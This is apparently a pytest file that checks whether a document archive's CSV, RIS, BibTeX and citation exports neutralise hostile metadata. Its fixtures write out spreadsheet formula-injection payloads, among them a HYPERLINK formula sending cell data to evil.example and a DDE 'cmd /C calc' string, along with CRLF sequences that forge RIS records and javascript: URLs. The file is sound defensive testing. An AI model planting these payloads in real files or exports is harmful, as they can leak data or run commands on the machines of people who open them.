"""Exports of hostile documents: nothing in a cell, a field or an address can act.

A real index of real files whose titles and sidecars carry spreadsheet formulas, line breaks that
would forge RIS tags and BibTeX fields, unbalanced braces, and `javascript:` addresses; the exports
are read back with the standard library's own CSV reader and a line-by-line RIS reader."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from archive import Archive, SearchRequest
from archive.cite import cite
from archive.export import csv_cell
from indexer.build import build
from tests.cli_helpers import ROOT, run_module
from tests.document_records import record

ACCESSED = date(2026, 1, 2)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORGED = "Fine title\r\nER  - \n\nTY  - JOUR\nTI  - Forged record\nUR  - javascript:alert(1)"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    src = tmp_path_factory.mktemp("hostile-src")
    (src / "formula.md").write_text("# Formula\n\nA statement about detention.\n")
    (src / "formula.meta.toml").write_text(
        f'title = {json.dumps(FORMULA)}\nsummary = "+cmd|\' /C calc\'!A0"\npeople = ["@SUM(1+1)", "-2+3"]\n'
    )
    (src / "forged.md").write_text("# Forged\n\nA statement about bond funds.\n")
    (src / "forged.meta.toml").write_text(f"title = {json.dumps(FORGED + ' {unbalanced } }')}\n")
    (src / "canonical.html").write_text(
        '<html><head><title>Canonical</title><link rel="canonical" href="javascript:alert(\'c\')"></head>'
        "<body><article><h1>Canonical trick</h1><p>"
        + "A statement about community defense and detention, long enough to be an article. " * 5
        + "</p></article></body></html>"
    )
    index = tmp_path_factory.mktemp("hostile-index")
    report = build([src], index, progress=False)
    assert report.failed == []
    return index


def test_csv_cells_never_start_a_formula(hostile: Path) -> None:
    text = Archive(hostile).export(SearchRequest(), "csv", accessed=ACCESSED)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 3
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    formula = next(r for r in rows if r["doc_id"] == "formula.md")
    assert formula["title"] == "'" + FORMULA and formula["summary"].startswith("'+cmd")
    assert formula["people"] == "'@SUM(1+1); -2+3"
    assert csv_cell("\tx") == "'\tx" and csv_cell("plain") == "plain" and csv_cell(["-a", "b"]) == "'-a; b"


def test_ris_records_cannot_be_forged_by_a_title(hostile: Path) -> None:
    text = Archive(hostile).export(SearchRequest(), "ris", accessed=ACCESSED)
    lines = text.strip().splitlines()
    assert sum(1 for line in lines if line.startswith("TY  - ")) == 3, text
    assert sum(1 for line in lines if line.rstrip() == "ER  -") == 3
    assert all(re.match(r"^[A-Z][A-Z0-9]  -( |$)", line) for line in lines if line)
    assert not any(line.startswith("UR  - ") for line in lines)  # no address: the forged one is text
    title = next(line for line in lines if line.startswith("TI  - Fine title"))
    assert "ER - TY - JOUR TI - Forged record" in title  # kept as words of the one title line


def test_bibtex_fields_are_one_line_with_balanced_braces(hostile: Path) -> None:
    text = Archive(hostile).export(SearchRequest(), "bibtex", accessed=ACCESSED)
    entries = [e for e in text.split("\n\n") if e.strip()]
    assert len(entries) == 3
    for entry in entries:
        depth = 0
        for char in entry:
            depth += {"{": 1, "}": -1}.get(char, 0)
            assert depth >= 0
        assert depth == 0
        assert all(line.startswith(("@misc{", "  ", "}")) for line in entry.splitlines())


def test_javascript_addresses_are_dropped_at_extraction_with_a_warning(hostile: Path) -> None:
    archive = Archive(hostile)
    meta = archive.metadata("canonical.html")
    assert meta.url is None
    assert any("javascript" in n and "not a web address" in n for n in meta.notes)
    for fmt in ("csv", "json", "bibtex", "ris"):
        assert "javascript" not in archive.export(SearchRequest(query="canonical"), fmt, accessed=ACCESSED)
    assert [w["path"].rsplit("/", 1)[1] for w in archive.stats().to_json()["warnings"]] == ["canonical.html"]


def test_citations_of_a_javascript_url_leave_it_out() -> None:
    meta = record(kind="statement", title="T", date="2020", url="javascript:alert(1)", authors=[])
    for style in ("apa", "mla", "chicago", "bibtex", "ris"):
        assert "javascript" not in cite(meta, style, "Org", accessed=ACCESSED)


def test_the_export_command_writes_what_the_api_exports(hostile: Path) -> None:
    for fmt in ("csv", "json", "bibtex", "ris"):
        result = subprocess.run(
            [sys.executable, "-m", "archive", "export", "detention", "--format", fmt, "--index", str(hostile)],
            cwd=ROOT,
            capture_output=True,
        )
        assert result.returncode == 0, result.stderr
        assert result.stdout == Archive(hostile).export(SearchRequest(query="detention"), fmt).encode()
    bad = run_module("archive", "export", "--format", "xls", "--index", str(hostile))
    assert bad.returncode == 2 and "invalid choice" in bad.stderr
